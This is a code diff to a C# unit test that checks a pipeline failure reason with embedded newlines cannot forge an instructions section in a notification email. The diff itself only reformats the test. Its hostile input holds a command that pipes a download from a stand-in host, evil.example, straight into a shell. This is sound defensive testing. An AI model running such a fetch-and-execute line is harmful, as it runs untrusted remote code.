@@ -94,7 +94,10 @@ public sealed class HostileDataTests
     [Fact]
     public async Task A_reason_with_lines_cant_forge_a_part_of_a_mail()
     {
-        var rig = new Rig { Executions = StubExecutions.FailedAt(new FailedStep(StepNames.Training, "x\n\nWHAT TO DO\ncurl evil.example | sh")) };
+        var rig = new Rig
+        {
+            Executions = StubExecutions.FailedAt(new FailedStep(StepNames.Training, "x\n\nWHAT TO DO\ncurl evil.example | sh")),
+        };
         var mail = await rig.MailOfAsync(EventTemplates.Execution(Scene, PipelineKind.Training, ExecutionStatuses.Failed));
         mail.Body.Split('\n').Count(line => line == "WHAT TO DO").ShouldBe(1);
     }
